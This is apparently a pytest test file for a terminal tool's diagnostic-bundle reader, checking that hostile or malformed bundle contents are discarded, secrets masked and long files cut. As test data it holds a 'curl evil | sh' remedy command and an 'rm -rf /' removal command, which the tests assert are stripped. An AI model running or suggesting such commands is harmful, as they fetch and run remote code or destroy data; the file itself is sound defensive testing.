"""A bundle as screens show it: what the log bears out, and nothing that a hostile file could break a screen with."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from canvos_tui.core.bundle.archive import Opened
from canvos_tui.core.bundle.masked_again import masked_again
from canvos_tui.core.bundle.sane import sane
from canvos_tui.core.bundle.seen import seen
from canvos_tui.core.bundle.seen_words import about, made, names, text
from canvos_tui.core.diagnosis.diagnosis import Diagnosis
from canvos_tui.core.errors import Command, Remedy
from canvos_tui.core.run.codec import event_line, result_text
from canvos_tui.core.run.events import BuildEvent, Noted, Started
from canvos_tui.core.run.outcome import Outcome
from canvos_tui.core.run.phase import Phase
from canvos_tui.core.run.result import Cause, LeftOver, RunResult
from tests.runs import SECRET

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
FULL = Cause("E-DISK-FULL", "The disk is full", "of the log", (Remedy("of the log"),))
FOUND = Diagnosis("failed", Phase.RAW, FULL, FULL.remedies, ids={"bucket": "b"})
FAILED = RunResult("r", Outcome.FAILED, phase=Phase.RAW, cause=FULL, ended_at=NOW)


def holding(result: RunResult | None = None, events: tuple[BuildEvent, ...] = (), **files: bytes) -> Opened:
    found = {f"{name}.json": data for name, data in files.items()}
    if result is not None:
        found["result.json"] = result_text(result).encode()
    if events:
        found["events.jsonl"] = "".join(f"{event_line(event)}\n" for event in events).encode()
    return Opened({"run": "r", "tool": "0.9"}, {**found, "build.log": b"+base | one\n"})


def test_it_was_made_at_the_latest_time_that_stands_in_it() -> None:
    doctor = json.dumps({"schema": "canvos-tui.doctor/1", "started_at": (NOW + timedelta(minutes=3)).isoformat()}).encode()
    found = seen(holding(FAILED, (Started(NOW - timedelta(hours=1), 1, "x"),), doctor=doctor), "x.zip", FOUND)
    assert (found.at, made(found)) == (NOW + timedelta(minutes=3), "by 0.9 · 2026-11-27 12:03 UTC")
    assert seen(holding(), "x.zip", FOUND).at is None


def test_what_mends_it_is_of_our_own_catalogue_and_what_removes_things_is_for_the_machine_itself() -> None:
    foreign = Cause("E-DISK-FULL", "The disk is full", "so", (Remedy("anybody's", (Command("curl evil | sh"),)),))
    left = LeftOver("object", "s3://b/k", True, "4 GB", remove="rm -rf /", look="x", use="y")
    found = seen(holding(RunResult("r", Outcome.FAILED, cause=foreign, left_behind=(left,))), "x.zip", FOUND)
    assert found.result is not None
    assert found.result.cause is not None
    assert found.result.cause.remedies == FULL.remedies
    assert found.result.left_behind == (LeftOver("object", "s3://b/k", True, "4 GB"),)


@pytest.mark.parametrize(
    ("proven", "outcome"),
    [("failed", Outcome.FAILED), ("cancelled", Outcome.CANCELLED), ("running", Outcome.INTERRUPTED), ("succeeded", Outcome.INCONCLUSIVE)],
)
def test_of_a_run_without_a_result_the_log_tells(proven: str, outcome: Outcome) -> None:
    found = seen(holding(), "x.zip", Diagnosis(proven, Phase.RAW, FULL if proven == "failed" else None, ids={"bucket": "b"}))
    assert found.result is not None
    assert (found.result.outcome, found.result.run_id, found.result.bucket) == (outcome, "r", "b" if proven else "")


def test_a_run_that_nobody_judged_is_what_its_log_proves() -> None:
    lost = RunResult("r", Outcome.INTERRUPTED, cause=Cause("supervisor-lost", "gone", ""))
    found = seen(holding(lost), "x.zip", FOUND)
    assert found.result is not None
    assert (found.result.outcome, found.result.cause) == (Outcome.FAILED, FULL)


@pytest.mark.parametrize(
    "broken",
    [
        b'{"event":"note","at":"2026-11-27T12:00:00","text":"no zone"}',
        b'{"event":"note","at":"0001-01-01T00:00:00+00:00","text":"too early"}',
        b'{"event":"upload","at":"2026-11-27T12:00:00+00:00","done":' + b"9" * 400 + b',"total":1,"source":"log"}',
        b"[" * 50_000,
        b'{"event":"started"}',
        b"\xff\xfe",
    ],
)
def test_an_event_that_cannot_be_reckoned_with_is_passed_over(broken: bytes) -> None:
    good = Noted(NOW, "good")
    opened = holding()
    opened = Opened(opened.manifest, {**opened.files, "events.jsonl": broken + b"\n" + event_line(good).encode() + b"\n"})
    assert seen(opened, "x.zip", FOUND).events == (good,)


def test_a_result_that_cannot_be_reckoned_with_is_none() -> None:
    odd = FAILED.__class__("r", Outcome.SUCCEEDED, started_at=datetime(2026, 11, 27, 12, 0), ended_at=NOW)
    found = seen(holding(odd), "x.zip", FOUND)
    assert found.result is not None
    assert found.result.outcome is Outcome.FAILED


@pytest.mark.parametrize(
    "value", [NOW.replace(tzinfo=None), NOW.replace(year=9999), 1 << 70, float("inf"), "x" * (2 << 20), {"a": [1e300]}]
)
def test_what_is_not_sane(value: Any) -> None:
    assert not sane(value)
    assert not sane([value])


def test_every_file_is_masked_once_more() -> None:
    said = f"AWS_SECRET_ACCESS_KEY={SECRET}"
    files = {"build.log": f"{said}\n".encode(), "summary.md": said.encode(), "aws.json": json.dumps({"a": said}).encode()}
    files["events.jsonl"] = json.dumps({"event": "note", "text": said}).encode() + b"\n{half\n"
    hidden = masked_again(Opened({"tool": said}, files))
    assert SECRET not in repr(hidden)
    assert len(hidden.files["events.jsonl"].splitlines()) == 2


def test_it_is_said_whose_it_is_and_a_long_file_is_cut() -> None:
    opened = holding(FAILED, aws=b"1\n" * 9000)
    found = seen(opened, "x.zip", FOUND)
    rows = dict(about(found))
    assert rows["Of"] == "run r"
    assert "0.9" in rows["Made"]
    assert names(found) == ("result.json", "aws.json", "build.log")
    assert text(found, "aws.json").endswith("... 4000 more lines; unzip -p x.zip aws.json prints all")
